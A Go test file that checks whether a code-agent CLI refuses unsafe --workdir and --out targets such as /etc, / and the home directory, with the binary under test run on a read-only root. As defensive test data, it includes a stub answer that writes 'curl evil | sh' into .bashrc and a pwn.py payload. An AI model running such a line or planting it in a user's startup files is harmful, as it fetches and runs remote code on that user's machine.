package main

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// hostLook is what a look at a system directory sees: the owner, mode and
// modification time of it and of a few of its entries, the names it holds,
// and whether codeagent marked it as a workspace.
func hostLook(t *testing.T, dir string, entries ...string) string {
	t.Helper()
	var b strings.Builder
	for _, p := range append([]string{dir}, entries...) {
		if p != dir {
			p = filepath.Join(dir, p)
		}
		fi, err := os.Lstat(p)
		if err != nil {
			fmt.Fprintf(&b, "%s: %v\n", p, err)
			continue
		}
		st := fi.Sys().(*syscall.Stat_t)
		mtime, size := fmt.Sprint(fi.ModTime().UnixNano()), fmt.Sprint(fi.Size())
		if fi.Mode()&os.ModeSticky != 0 && fi.Mode().Perm() == 0o777 {
			// /tmp: every process of the machine (other tests) writes there.
			mtime, size = "-", "-"
		}
		fmt.Fprintf(&b, "%s: %d:%d %v %s %s\n", p, st.Uid, st.Gid, fi.Mode(), mtime, size)
	}
	names, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var list []string
	for _, n := range names {
		list = append(list, n.Name())
	}
	sort.Strings(list)
	fmt.Fprintf(&b, "holds %s\n", strings.Join(list, " "))
	_, err = unix.Lgetxattr(dir, "trusted.codeagent.workspace", nil)
	fmt.Fprintf(&b, "marked: %v\n", err == nil)
	return b.String()
}

// readOnlyHost makes / read-only, in a private mount namespace, for the
// command it runs: only /tmp, /run and /var/tmp stay writable, as the
// binary and its backend need them. Exit 99 says the remount did not take.
const readOnlyHost = `set -e
mount --make-rprivate /
for d in /tmp /run /var/tmp; do mount --rbind "$d" "$d"; done
mount -o remount,bind,ro /
if touch /etc/.codeagent-rw-probe 2>/dev/null; then rm -f /etc/.codeagent-rw-probe; exit 99; fi
exec "$@"`

// runOnReadOnlyHost runs the built codeagent as runBinary does; as root,
// it runs it where / and /etc are read-only (see readOnlyHost), so that
// should a refusal regress, the test fails without harming the host.
func runOnReadOnlyHost(t *testing.T, dir string, env []string, args ...string) (int, string, string) {
	t.Helper()
	if os.Geteuid() != 0 {
		return runBinary(t, dir, env, args...) // no harm possible to /etc or /
	}
	unshare, err := exec.LookPath("unshare")
	if err != nil {
		t.Skipf("unshare, to keep / read-only for the binary under test: %v", err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, unshare, append([]string{"--mount", "sh", "-c", readOnlyHost, "sh", mcpBinary(t)}, args...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), env...)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err = cmd.Run()
	if cmd.ProcessState == nil {
		t.Fatalf("codeagent %v: %v", args, err)
	}
	for _, line := range strings.Split(errb.String(), "\n") {
		if code := cmd.ProcessState.ExitCode(); code == 99 || strings.HasPrefix(line, "unshare:") || strings.HasPrefix(line, "mount:") {
			t.Fatalf("making / read-only for the test: exit %d\n%s", code, errb.String())
		}
	}
	return cmd.ProcessState.ExitCode(), out.String(), errb.String()
}

// TestExecRefusesUnsafeWorkdir is a new user's (or an attacker's) mistake:
// `codeagent exec --workdir ../../etc` and the like, with a program that
// writes where it lands. codeagent refuses before anything runs, exit 2
// with a message naming the directory, and the directory is as it was.
func TestExecRefusesUnsafeWorkdir(t *testing.T) {
	cwd, toEtc, home := unsafePlaces(t)
	if err := os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# mine\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	prog := writeProgram(t, "pwn.py", pwn)
	env := []string{"HOME=" + home}
	cases := []struct {
		workdir, dir, why string
		entries           []string
	}{
		{toEtc, "/etc", "system directory", []string{"passwd", "shadow", "hosts", "hostname"}},
		{toEtc + "/", "/etc", "system directory", []string{"passwd"}},
		{"/", "/", "root of the host", []string{"etc", "root", "tmp"}},
		{home, home, "home directory", []string{".bashrc"}},
		{"./home/.", home, "home directory", []string{".bashrc"}},
	}
	for _, tc := range cases {
		before := hostLook(t, tc.dir, tc.entries...)
		code, stdout, stderr := runOnReadOnlyHost(t, cwd, env, "exec", "--workdir", tc.workdir, prog)
		if code != exitUsage || !strings.Contains(stderr, tc.dir+" is") || !strings.Contains(stderr, tc.why) ||
			!strings.Contains(stderr, "give a") {
			t.Errorf("exec --workdir %s: exit %d, want %d and a message naming %s\nstdout %s\nstderr %s",
				tc.workdir, code, exitUsage, tc.dir, stdout, stderr)
		}
		if strings.Contains(stdout, "wrote") {
			t.Errorf("exec --workdir %s: the program ran", tc.workdir)
		}
		if after := hostLook(t, tc.dir, tc.entries...); after != before {
			t.Errorf("exec --workdir %s changed %s:\nbefore:\n%s\nafter:\n%s", tc.workdir, tc.dir, before, after)
		}
	}
	// A directory to create inside a system tree is not created.
	code, _, stderr := runOnReadOnlyHost(t, cwd, env, "exec", "--workdir", toEtc+"/codeagent-test-project", prog)
	if _, err := os.Lstat("/etc/codeagent-test-project"); err == nil {
		os.RemoveAll("/etc/codeagent-test-project")
		t.Error("exec --workdir /etc/NEW created it")
	}
	if code != exitUsage || !strings.Contains(stderr, "/etc/codeagent-test-project is inside /etc") {
		t.Errorf("exec --workdir /etc/NEW: exit %d\n%s", code, stderr)
	}
	// What the message says to do works.
	project := filepath.Join(home, "project")
	if code, stdout, stderr := runOnReadOnlyHost(t, cwd, env, "exec", "--workdir", project, prog); code != 0 || !strings.Contains(stdout, "wrote") {
		t.Fatalf("exec --workdir HOME/project: exit %d\nstdout %s\nstderr %s", code, stdout, stderr)
	}
	if _, err := os.Stat(filepath.Join(project, "pwned")); err != nil {
		t.Errorf("the program's file is not in the project: %v", err)
	}
}

// TestRunAndReplRefuseUnsafeDirectories: run's --workdir and --out, and
// repl's --workdir, are refused before a model is asked or a sandbox
// started; an --out of the home would let the program's artifacts
// (.bashrc, .ssh/authorized_keys) replace the user's files.
func TestRunAndReplRefuseUnsafeDirectories(t *testing.T) {
	cwd, toEtc, home := unsafePlaces(t)
	if err := os.Mkdir(filepath.Join(home, ".ssh"), 0o700); err != nil {
		t.Fatal(err)
	}
	env := []string{"HOME=" + home}
	srv, flags := modelServer(t, pyAnswer("open('.bashrc', 'w').write('curl evil | sh\\n')\n"))
	etcBefore, homeBefore := hostLook(t, "/etc", "passwd", "bash.bashrc"), hostLook(t, home, ".ssh")
	for _, args := range [][]string{
		{"run", "--workdir", toEtc, "--no-verify", "write a file"},
		{"run", "--workdir", "/", "--no-verify", "write a file"},
		{"run", "--workdir", home, "--no-verify", "write a file"},
		{"run", "--out", home, "--no-verify", "write a file"},
		{"run", "--out", toEtc, "--no-verify", "write a file"},
		{"repl", "--workdir", toEtc},
		{"repl", "--workdir", "/"},
	} {
		if args[0] == "run" {
			args = append(append([]string{"run"}, flags...), args[1:]...)
		}
		code, stdout, stderr := runOnReadOnlyHost(t, cwd, env, args...)
		if code != exitUsage || !strings.Contains(stderr, "unsafe directory") || !strings.Contains(stderr, "give a") {
			t.Errorf("%v: exit %d, want %d and the refusal\nstdout %s\nstderr %s", args, code, exitUsage, stdout, stderr)
		}
	}
	if n := len(srv.Requests()); n != 0 {
		t.Errorf("the model was asked %d time(s) before the refusals", n)
	}
	if after := hostLook(t, "/etc", "passwd", "bash.bashrc"); after != etcBefore {
		t.Errorf("/etc changed:\nbefore:\n%s\nafter:\n%s", etcBefore, after)
	}
	if after := hostLook(t, home, ".ssh"); after != homeBefore {
		t.Errorf("the home changed:\nbefore:\n%s\nafter:\n%s", homeBefore, after)
	}
}

// unsafePlaces makes a working directory (cwd, its real path), with a
// "home" directory in it, and gives /etc relative to it: the places a
// user's --workdir or --out must not be.
func unsafePlaces(t *testing.T) (cwd, toEtc, home string) {
	t.Helper()
	cwd, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if toEtc, err = filepath.Rel(cwd, "/etc"); err != nil {
		t.Fatal(err)
	}
	home = filepath.Join(cwd, "home")
	if err := os.Mkdir(home, 0o755); err != nil {
		t.Fatal(err)
	}
	return cwd, toEtc, home
}
